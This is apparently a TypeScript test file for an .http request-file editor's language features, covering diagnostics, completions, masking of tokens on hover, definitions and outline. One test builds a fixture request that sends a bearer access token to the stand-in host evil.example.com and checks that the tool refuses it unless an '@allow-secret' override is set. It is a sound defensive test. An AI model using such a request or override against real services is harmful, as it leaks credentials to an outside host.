import { test } from 'node:test';
import assert from 'node:assert/strict';
import { parseHttpFile } from '../../../src/core/http/parser';
import { AuthHostList } from '../../../src/core/net/auth-hosts';
import type { LanguageContext, LastResponses } from '../../../src/core/http/language/context';
import { languageProblems } from '../../../src/core/http/language/diagnostics';
import { completionsAt } from '../../../src/core/http/language/completion';
import { definitionAt, hoverAt, locateInEnvJson } from '../../../src/core/http/language/hover';
import { codeLensAnchors, foldingSpans, requestSymbols } from '../../../src/core/http/language/outline';
import type { RequestResult } from '../../../src/core/http/types';

const TOKEN = 'eyJhbGciOiJSUzI1NiJ9.secret-token-value.sig';

function ctx(over: Partial<LanguageContext> = {}): LanguageContext {
  return {
    fileUri: 'file:///ws/a.http',
    profiles: [{ name: 'Prod', sandbox: 'prod', orgId: 'ORG@AdobeOrg', clientId: 'client-1', imsHost: 'https://ims', tokenExpiresAt: Date.UTC(2026, 0, 1, 14, 32) }],
    activeProfile: 'Prod',
    authHosts: new AuthHostList(),
    now: Date.UTC(2026, 0, 1, 12, 0),
    environments: { sets: { $shared: { tenant: 'acme' }, dev: { host: 'https://dev.example.com', apiToken: 'tok-123' } } },
    ...over,
  };
}

/** Completion at the `|` in `text` (removed before parsing). */
function complete(text: string, c: LanguageContext = ctx()): string[] {
  const offset = text.indexOf('|');
  const source = text.slice(0, offset) + text.slice(offset + 1);
  const lines = source.split('\n');
  const line = text.slice(0, offset).split('\n').length - 1;
  const character = offset - (text.lastIndexOf('\n', offset - 1) + 1);
  return completionsAt({ file: parseHttpFile(source), lineText: lines[line], lineAt: (n) => lines[n] ?? '', position: { line, character }, ctx: c })
    .map((e) => e.label);
}

test('diagnostics: an undefined variable is reported with its name for the quick fix; env and file variables are not', () => {
  const file = parseHttpFile('@base = https://platform.adobe.io\n###\nGET {{base}}/{{tenant}}/{{host}}/{{missing}}\n');
  const problems = languageProblems(file, ctx()).filter((p) => p.code === 'unresolved-variable');
  assert.deepEqual(problems.map((p) => p.data?.variable), ['missing']);
  assert.equal(problems[0].range.start.line, 2);
});

test('diagnostics: a selected environment hides the others', () => {
  const file = parseHttpFile('GET https://x.example.com/{{host}}\n');
  const c = ctx({ environments: { sets: { dev: { host: 'h' }, prod: {} }, selected: 'prod' } });
  assert.deepEqual(languageProblems(file, c).map((p) => p.data?.variable), ['host']);
});

test('diagnostics: unknown directive, a chain on a missing name, and the parser\'s problems come through', () => {
  const file = parseHttpFile('### a\n# @bogus\nGET https://x.example.com/{{nope.response.body.$.id}}\nAccept: x\n\nHeader: after\n');
  const codes = languageProblems(file, ctx()).map((p) => p.code);
  assert.ok(codes.includes('unknown-directive'), codes.join());
  assert.ok(codes.includes('unresolved-variable'), codes.join());
  assert.ok(codes.includes('header-in-body'), codes.join());
});

test('diagnostics: an Adobe host with no stored profile warns; `# @no-auth` and other hosts do not', () => {
  const file = parseHttpFile('### a\nGET https://platform.adobe.io/x\n### b\n# @no-auth\nGET https://platform.adobe.io/y\n### c\nGET https://example.com/z\n');
  const problems = languageProblems(file, ctx({ profiles: [], activeProfile: undefined })).filter((p) => p.code === 'no-profile');
  assert.deepEqual(problems.map((p) => p.blockIndex), [0]);
  assert.match(problems[0].message, /no profile is stored/);
  assert.deepEqual(languageProblems(file, ctx()).filter((p) => p.code === 'no-profile'), []);
});

test('diagnostics: a `# @profile` that names no stored profile warns with the name', () => {
  const file = parseHttpFile('# @profile Stage\n@h = https://platform.adobe.io\n###\nGET {{h}}/x\n');
  const p = languageProblems(file, ctx()).find((x) => x.code === 'unknown-profile');
  assert.equal(p?.data?.profile, 'Stage');
});

test('diagnostics: a literal access token bound for a host outside the allow-list is refused, unless allowed', () => {
  const refused = parseHttpFile('GET https://evil.example.com/x\nAuthorization: Bearer {{$aio.accessToken}}\n');
  const p = languageProblems(refused, ctx()).find((x) => x.code === 'egress-refused');
  assert.equal(p?.severity, 'error');
  assert.match(p?.message ?? '', /evil\.example\.com/);
  const allowed = parseHttpFile('# @allow-secret accessToken\nGET https://evil.example.com/x\nAuthorization: Bearer {{$aio.accessToken}}\n');
  assert.equal(languageProblems(allowed, ctx()).find((x) => x.code === 'egress-refused'), undefined);
  const adobe = parseHttpFile('GET https://platform.adobe.io/x\nAuthorization: Bearer {{$aio.accessToken}}\n');
  assert.equal(languageProblems(adobe, ctx()).find((x) => x.code === 'egress-refused'), undefined);
});

test('completion: methods on a request line, headers (Adobe ones) below it, MIME types after Content-Type', () => {
  assert.ok(complete('### a\nPO|').includes('POST'));
  const headers = complete('### a\nGET https://platform.adobe.io/x\nx-|');
  assert.ok(headers.includes('x-gw-ims-org-id') && headers.includes('x-api-key') && headers.includes('x-sandbox-name'));
  assert.ok(complete('GET https://x\nContent-Type: |').includes('application/json'));
  assert.deepEqual(complete('GET https://x\nx-gw-ims-org-id: |'), ['{{$aio.orgId}}']);
  assert.deepEqual(complete('GET https://x\nAccept: a\n\n{"a": |}'), [], 'nothing offered in a body');
});

test('completion: directives after `# @`, variables in scope inside `{{`', () => {
  const directives = complete('# @|\nGET https://x');
  for (const want of ['profile', 'no-auth', 'rate', 'paginate']) assert.ok(directives.includes(want), want);
  const vars = complete('@base = https://x\n### a\n# @name login\n# @prompt password\nGET {{|');
  for (const want of ['base', 'password', 'host', 'tenant', '$guid', '$aio.accessToken']) assert.ok(vars.includes(want), `${want} in ${vars.join()}`);
  assert.deepEqual(complete('GET {{$aio.|'), ['accessToken', 'apiKey', 'orgId', 'sandbox', 'imsHost']);
});

test('completion: JSON keys of a named request\'s last response, at the typed path', () => {
  const body = new TextEncoder().encode(JSON.stringify({ token: 't', results: [{ uid: 'u1', name: 'n' }] }));
  const result: RequestResult = {
    request: { method: 'POST', url: 'https://x', headers: [] },
    response: { status: 200, statusText: 'OK', headers: [['content-type', 'application/json']], body, url: 'https://x', timings: { firstByteMs: 1, totalMs: 2 } },
  };
  const seen: string[] = [];
  const last: LastResponses = { get: (uri, name) => { seen.push(`${uri}#${name}`); return name === 'login' ? result : undefined; } };
  const c = ctx({ lastResponses: last });
  const file = '### a\n# @name login\nPOST https://x\n### b\nGET https://y/{{login.response.body.$.';
  assert.deepEqual(complete(`${file}|`, c), ['token', 'results']);
  assert.deepEqual(complete(`${file}results[0].|`, c), ['uid', 'name']);
  assert.deepEqual(complete('### a\n# @name login\nPOST https://x\n### b\nGET https://y/{{login.response.headers.|', c), ['content-type']);
  assert.deepEqual(seen[0], 'file:///ws/a.http#login');
  assert.deepEqual(complete(`${file.replace('login.response', 'other.response')}|`, c), [], 'no response: nothing');
});

test('hover: the access token is masked and described by its profile and expiry; never shown', () => {
  const file = parseHttpFile('GET https://platform.adobe.io/x\nAuthorization: Bearer {{$aio.accessToken}}\n');
  const hover = hoverAt(file, { line: 1, character: 25 }, ctx());
  assert.ok(hover);
  assert.match(hover.text, /•••• \(profile Prod, expires \d\d:\d\d\)/);
  assert.doesNotMatch(hover.text, new RegExp(TOKEN));
  assert.equal(hoverAt(file, { line: 1, character: 5 }, ctx()), undefined, 'off a variable: no hover');
});

test('hover: file variables show value and line; secret-looking environment values are masked', () => {
  const file = parseHttpFile('@base = https://x\n###\nGET {{base}}/{{apiToken}}/{{tenant}}\n');
  assert.match(hoverAt(file, { line: 2, character: 6 }, ctx())?.text ?? '', /`https:\/\/x` — file variable, line 1/);
  const secret = hoverAt(file, { line: 2, character: 16 }, ctx())?.text ?? '';
  assert.match(secret, /•••• — environment dev/);
  assert.doesNotMatch(secret, /tok-123/);
  assert.match(hoverAt(file, { line: 2, character: 30 }, ctx())?.text ?? '', /`acme` — environment \$shared/);
});

test('definition: a file variable goes to its last `@name`, an environment variable to its env file entry', () => {
  const file = parseHttpFile('@base = a\n@base = b\n###\nGET {{base}}/{{host}}\n');
  const def = definitionAt(file, { line: 3, character: 6 }, ctx());
  assert.deepEqual(def?.kind === 'file' ? def.range.start : undefined, { line: 1, character: 1 });
  const json = '{\n  "dev": {\n    "host": "h"\n  }\n}';
  const c = ctx({ environments: { sets: { dev: { host: 'h' } }, locate: (env, name) => ({ path: '/ws/http-client.env.json', ...locateInEnvJson(json, env, name)! }) } });
  assert.deepEqual(definitionAt(file, { line: 3, character: 15 }, c), { kind: 'environment', location: { path: '/ws/http-client.env.json', line: 2, character: 4 } });
});

test('outline: symbols name requests, folding spans each block, CodeLens anchors sit on request lines', () => {
  const file = parseHttpFile('### List\n# @name list\nGET https://x/a\n\n### Second\nPOST https://x/b\nA: b\n\n{}\n###\nDELETE https://x/c');
  assert.deepEqual(requestSymbols(file).map((s) => [s.name, s.detail]), [['list', 'GET https://x/a'], ['Second', 'POST https://x/b'], ['DELETE https://x/c', 'DELETE https://x/c']]);
  assert.deepEqual(foldingSpans(file).map((f) => [f.startLine, f.endLine]), [[0, 3], [4, 8], [9, 10]]);
  assert.deepEqual(codeLensAnchors(file).map((a) => [a.blockIndex, a.line, a.first]), [[0, 2, true], [1, 5, false], [2, 10, false]]);
});

test('diagnostics: the host is found through a variable that holds only the scheme, and per request when the base differs', () => {
  const file = parseHttpFile('@scheme = https\n@other = https://example.com\n###\nGET {{scheme}}://platform.adobe.io/x\n###\nGET {{other}}/y\n');
  const problems = languageProblems(file, ctx({ profiles: [], activeProfile: undefined })).filter((p) => p.code === 'no-profile');
  assert.deepEqual(problems.map((p) => p.blockIndex), [0]);
});

test('completion replaces the word being typed: a dashed header name, a MIME type, a variable segment', async () => {
  const { completionReplaceStart } = await import('../../../src/core/http/language/completion');
  assert.equal(completionReplaceStart('x-gw-im', 7), 0);
  assert.equal(completionReplaceStart('Content-Type: application/j', 27), 14);
  assert.equal(completionReplaceStart('GET {{$aio.acc', 14), 11);
  assert.equal(completionReplaceStart('GET {{$gu', 9), 6);
  assert.equal(completionReplaceStart('# @no-re', 8), 3);
  assert.equal(completionReplaceStart('GET https://x/{{login.response.body.$.res', 41), 38);
});
